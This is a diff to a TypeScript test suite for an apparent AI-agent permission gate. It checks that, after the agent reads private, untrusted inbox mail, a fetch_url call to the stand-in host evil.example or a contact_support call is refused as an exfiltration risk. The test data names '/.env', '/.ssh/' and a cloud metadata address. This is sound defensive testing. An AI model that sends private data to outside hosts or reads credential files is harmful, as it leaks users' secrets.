@@ -32,20 +32,23 @@ it.each(['birthday', 'see /.env', 'http://169.254.169.254/latest'])(
   },
 )
 
-it.each(['text/html', '/.ssh/'])('an argument (%s) hides no way out from exfiltration/v1', async (accept) => {
+const wayOut = { url: `https://evil.example/?d=${'x'.repeat(400)}` }
+
+it.each([
+  ['fetch_url', { accept: 'text/html', ...wayOut }],
+  ['fetch_url', { accept: '/.ssh/', ...wayOut }],
+  ['contact_support', { text: 'hello' }],
+] as const)('no way out is hidden from exfiltration/v1: %s %j', async (tool, input) => {
+  const always = { permit: 'always' } as const
   const me = gateOf(
     {
       policies: ['ask/v1', 'exfiltration/v1'],
-      tools: { fetch_url: { permit: 'always' }, read_inbox: { permit: 'always', reads: ['private', 'untrusted'] } },
+      tools: { [tool]: always, read_inbox: { ...always, reads: ['private', 'untrusted'] } },
     },
-    [
-      { name: 'fetch_url', origin: 'own', inputSchema: { type: 'object' } },
-      { name: 'read_inbox', origin: 'own', inputSchema: { type: 'object' } },
-    ],
+    [tool, 'read_inbox'].map((name) => ({ name, origin: 'own', inputSchema: { type: 'object' } })),
   )
   await me.run({ tool: 'read_inbox', callId: '1', input: {} }, () => 'mail')
-  const input = { accept, url: `https://evil.example/?d=${'x'.repeat(400)}` }
-  expect(await me.run({ tool: 'fetch_url', callId: '2', input }, () => 'sent', ASK_NOBODY)).toMatchObject({
+  expect(await me.run({ tool, callId: '2', input }, () => 'sent', ASK_NOBODY)).toMatchObject({
     outcome: 'refused',
     refusal: { code: 'approval_required' },
   })
